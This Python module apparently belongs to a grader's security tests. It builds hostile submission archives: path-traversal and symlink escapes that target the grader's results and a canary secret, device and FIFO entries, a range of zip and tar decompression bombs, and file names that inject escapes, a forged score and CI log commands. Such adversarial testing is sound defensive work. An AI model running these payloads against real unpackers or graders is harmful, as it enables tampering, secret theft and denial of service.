"""Hand-ins whose archive is the attack: it is built when it is needed, so that no bomb lies about.

Each function packs a package with what does harm and returns where. It is told what an attacker may know: `results`, a
folder of the grader's; `token`, which everything left behind would bear in its name; `canary_file`, a secret.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

Told = Mapping[str, Any]
Wrapping = Callable[[Path, Told], Path]

_ZEROS = bytes(1 << 20)
#: Names that climb out of wherever they are unpacked; the last ones know of a public folder.
_CLIMBS = [*("../" * steps for steps in (1, 2, 3, 4, 6)), "../" * 30 + "tmp/", "stu_upload/../../../../"]


def _zip(package: Path, more: Mapping[str, bytes] = {}, *, method: int = zipfile.ZIP_DEFLATED) -> Path:
    """The package, and after it more members."""
    path = package.parent / "handin.zip"
    with zipfile.ZipFile(path, "w", method) as out:
        for file in sorted(package.iterdir()):
            out.write(file, f"{package.name}/{file.name}", zipfile.ZIP_DEFLATED)
        for name, content in more.items():
            out.writestr(name, content)
    return path


def _tar(package: Path, *more: tuple[tarfile.TarInfo, bytes]) -> Path:
    path = package.parent / "handin.tar"
    with tarfile.open(path, "w") as out:
        for info, content in more:
            info.size = len(content)
            out.addfile(info, io.BytesIO(content))
        out.add(package, package.name)
    return path


def _entry(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    return info


# -- out of the folder ------------------------------------------------------------------------------------------


def zip_climbs(package: Path, told: Told) -> Path:
    """Members with `..`."""
    return _zip(package, {f"{climb}{told['token']}": b"out" for climb in _CLIMBS})


def zip_absolute(package: Path, told: Told) -> Path:
    """A member with an absolute path."""
    return _zip(package, {f"{told['results']}/results.json": b"100", f"/tmp/{told['token']}": b"out"})  # noqa: S108


def zip_windows(package: Path, told: Told) -> Path:
    """Members that climb, written as Windows does."""
    return _zip(package, {f"{climb}{told['token']}".replace("/", "\\"): b"out" for climb in _CLIMBS})


def zip_through_link(package: Path, told: Told) -> Path:
    """A link to a folder, and a file in it."""
    path = _zip(package)
    with zipfile.ZipFile(path, "a") as out:
        link = zipfile.ZipInfo("stu_upload/there")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        out.writestr(link, str(told["results"]))
        out.writestr("stu_upload/there/results.json", b"100")
    return path


def zip_link_to_secret(package: Path, told: Told) -> Path:
    """One of the lab's files is a link to what the grader may read."""
    (package / "secret.txt").unlink(missing_ok=True)
    path = _zip(package)
    with zipfile.ZipFile(path, "a") as out:
        link = zipfile.ZipInfo("stu_upload/secret.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        out.writestr(link, str(told["canary_file"]))
    return path


def tar_climbs(package: Path, told: Told) -> Path:
    """Members with `..`."""
    return _tar(package, *((_entry(f"{climb}{told['token']}"), b"out") for climb in _CLIMBS))


def tar_absolute(package: Path, told: Told) -> Path:
    """A member with an absolute path."""
    return _tar(package, (_entry(f"{told['results']}/results.json"), b"100"))


def tar_through_link(package: Path, told: Told) -> Path:
    """A link to a folder, and a file in it."""
    link = _entry("stu_upload/there", tarfile.SYMTYPE, str(told["results"]))
    return _tar(package, (link, b""), (_entry("stu_upload/there/results.json"), b"100"))


def tar_hard_link(package: Path, told: Told) -> Path:
    """A hard link to what the grader may read."""
    return _tar(package, (_entry("stu_upload/secret.txt", tarfile.LNKTYPE, str(told["canary_file"])), b""))


def tar_device(package: Path, _: Told) -> Path:
    """A device without end where a file should be."""
    device = _entry("stu_upload/layers_3.py", tarfile.CHRTYPE)
    device.devmajor, device.devminor = 1, 5
    return _tar(package, (device, b""))


def tar_pipe(package: Path, _: Told) -> Path:
    """A FIFO, which blocks whoever reads it."""
    return _tar(package, (_entry("stu_upload/layers_3.py", tarfile.FIFOTYPE), b""))


def folder_links(package: Path, told: Told) -> Path:
    """No archive: a folder with links to what the grader may read, and to itself; and a FIFO."""
    (package / "secret.txt").symlink_to(told["canary_file"])
    (package / "secrets").symlink_to(told["results"])
    (package / "again").symlink_to(package)
    os.mkfifo(package / "pipe.py")
    return package


# -- bombs ------------------------------------------------------------------------------------------------------


def _zeros(megabytes: int, wbits: int, head: bytes = b"") -> bytes:
    """So many megabytes of zeros (a multiple of 4) behind a head, deflated; one piece again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    begin = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(_ZEROS * 4) + packer.flush(zlib.Z_FULL_FLUSH)
    return begin + piece * (megabytes // 4) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def _claiming(package: Path, content: bytes, method: int, size: int) -> Path:
    """A zip with one more member: its packed content, how it is packed, and the size that it claims to have."""
    name = "stu_upload/data.bin"
    path = _zip(package, {name: content}, method=zipfile.ZIP_STORED)
    raw = bytearray(path.read_bytes())
    central = raw.rindex(name.encode()) - 46
    (local,) = struct.unpack_from("<I", raw, central + 42)
    for at in (local + 8, central + 10):
        struct.pack_into("<H", raw, at, method)
    struct.pack_into("<I", raw, central + 24, size)
    path.write_bytes(raw)
    return path


def zip_ratio(package: Path, _: Told) -> Path:
    """A gigabyte of zeros."""
    return _claiming(package, _zeros(1024, -15), zipfile.ZIP_DEFLATED, 1 << 30)


def zip_lies(package: Path, _: Told) -> Path:
    """A gigabyte of zeros that are said to be ten bytes."""
    return _claiming(package, _zeros(1024, -15), zipfile.ZIP_DEFLATED, 10)


def zip_bzip2(package: Path, _: Told) -> Path:
    """32 MB of zeros in 50 bytes, said to be ten: one call of a careless reader unpacks them all."""
    return _claiming(package, bz2.compress(_ZEROS * 32), zipfile.ZIP_BZIP2, 10)


def zip_lzma(package: Path, _: Told) -> Path:
    """As `zip_bzip2`, with a dictionary that claims 3 GB."""
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 20}]
    content = lzma.compress(_ZEROS * 32, lzma.FORMAT_RAW, filters=filters)
    properties = struct.pack("<BI", 0x5D, 3 << 30)
    return _claiming(package, struct.pack("<BBH", 9, 4, 5) + properties + content, zipfile.ZIP_LZMA, 10)


def zip_overlap(package: Path, _: Told) -> Path:
    """Members that share their bytes: each quotes the headers of all that follow, and unpacks to a megabyte."""
    path = package.parent / "handin.zip"
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed, content = deflate.compress(_ZEROS) + deflate.flush(), _ZEROS
    body, entries = b"", []
    for number in reversed(range(300)):
        name = f"stu_upload/{number:03}.bin".encode()
        common = struct.pack(
            "<HHHHHIIIHH", 20, 0, 8, 0, 0x21, zlib.crc32(content), len(packed), len(content), len(name), 0
        )
        header = b"PK\x03\x04" + common + name
        body = header + packed
        entries.append((common, name, len(body)))
        packed = struct.pack("<BHH", 0, len(header), ~len(header) & 0xFFFF) + body
        content = header + content
    table = b"".join(
        b"PK\x01\x02\x14\x00" + common + struct.pack("<HHHII", 0, 0, 0, 0, len(body) - behind) + name
        for common, name, behind in entries
    )
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(table), len(body), 0)
    path.write_bytes(body + table + end)
    return path


def zip_of_zips(package: Path, told: Told) -> Path:
    """Six zips of six bombs, and no package beside them."""
    bomb = zip_ratio(package, told).read_bytes()
    for _ in range(2):
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as out:
            for number in range(6):
                out.writestr(f"{number}/work.zip", bomb)
        bomb = inner.getvalue()
    path = package.parent / "handin.zip"
    path.write_bytes(bomb)
    return path


def zip_entries(package: Path, _: Told) -> Path:
    """Half a million entries, in a table that is read whole."""
    path = _zip(package)
    raw = path.read_bytes()
    end = raw.rindex(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", raw, end + 12)
    table = raw[offset:end] + (b"PK\x01\x02" + bytes(24) + struct.pack("<H", 1) + bytes(16) + b"a") * 500_000
    path.write_bytes(raw[:offset] + table + raw[end : end + 8] + struct.pack("<HHIIH", 9, 9, len(table), offset, 0))
    assert size  # noqa: S101 - a table was there to begin with
    return path


def zip_deep(package: Path, _: Told) -> Path:
    """A file 5000 folders deep."""
    return _zip(package, {"a/" * 5000 + "layers_1.py": b""})


def gzip_zeros(package: Path, _: Told) -> Path:
    """Four gigabytes of zeros as a tar."""
    info = _entry("stu_upload/data.bin")
    info.size = 4 << 30
    path = package.parent / "handin.tar.gz"
    path.write_bytes(_zeros(4096, 31, info.tobuf()))
    return path


def xz_zeros(package: Path, _: Told) -> Path:
    """Two gigabytes of zeros as a tar, called what is skipped."""
    info = _entry(".git/data.bin")
    info.size = 2 << 30
    path = package.parent / "handin.tar.xz"
    path.write_bytes(lzma.compress(info.tobuf(), preset=0) + lzma.compress(_ZEROS * 64, preset=0) * 32)
    return path


def tar_header(package: Path, _: Told) -> Path:
    """A header of 200 MB, which tarfile reads whole."""
    info = _entry("x", tarfile.XHDTYPE)
    info.size = 200 << 20
    path = package.parent / "handin.tar.gz"
    path.write_bytes(_zeros(200, 31, info.tobuf()))
    return path


def tar_slow(package: Path, _: Told) -> Path:
    """Headers whose parsing takes the square of their length."""
    header = (_entry("x", tarfile.XHDTYPE), b"1" * (1 << 18))
    return _tar(package, *[item for _ in range(16) for item in (header, (_entry("stu_upload/x"), b""))])


def tar_entries(package: Path, _: Told) -> Path:
    """A hundred thousand folders."""
    path = package.parent / "handin.tar.gz"
    path.write_bytes(gzip.compress(_entry("stu_upload", tarfile.DIRTYPE).tobuf() * 100_000, 1))
    return path


# -- what a reader sees -----------------------------------------------------------------------------------------


def zip_two_faces(package: Path, _: Told) -> Path:
    """One name twice: who looks into the archive sees one file, and another is graded."""
    path = _zip(package)
    with zipfile.ZipFile(path, "a") as out, _silently():
        out.writestr("stu_upload/layers_1.py", b"# the other\n")
    return path


def zip_case(package: Path, _: Told) -> Path:
    """Two names that are one on some computers."""
    return _zip(package, {"stu_upload/LAYERS_1.py": b"# the other\n"})


def zip_control(package: Path, told: Told) -> Path:
    """A message quotes the name: escapes, a line of its own, a log command, right to left."""
    return _zip(package, {f"../a\n{told['token']} 100/100\n\x1b[2J\n::error::b\u202e.py": b""})


def _silently() -> Any:
    import warnings

    return warnings.catch_warnings(action="ignore")


#: By the name that an attack's header gives.
WRAPPINGS: Mapping[str, Wrapping] = {
    function.__name__: function
    for function in (
        zip_climbs, zip_absolute, zip_windows, zip_through_link, zip_link_to_secret, tar_climbs, tar_absolute,
        tar_through_link, tar_hard_link, tar_device, tar_pipe, folder_links, zip_ratio, zip_bzip2, zip_lzma, zip_lies,
        zip_overlap, zip_of_zips, zip_entries, zip_deep, gzip_zeros, xz_zeros, tar_header, tar_slow, tar_entries,
        zip_two_faces, zip_case, zip_control,
    )
}  # fmt: skip
